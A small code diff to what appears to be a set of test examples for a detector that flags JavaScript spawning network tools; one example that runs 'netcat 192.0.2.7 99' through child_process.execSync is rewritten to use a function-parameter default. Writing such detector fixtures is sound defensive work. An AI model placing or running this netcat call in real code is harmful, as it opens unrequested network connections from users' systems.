@@ -64,7 +64,7 @@ export const moduleExamples: DetectorExamples = {
       attributes: { command: 'netcat', shell: 'true', via: 'exec' },
     },
     {
-      code: "const { run = require('child_process').execSync } = options; run('netcat 192.0.2.7 99');",
+      code: "function start({ run = require('child_process').execSync }) { run('netcat 192.0.2.7 99'); }",
       why: 'a member where none is given',
       attributes: { command: 'netcat', shell: 'true', via: 'exec' },
     },
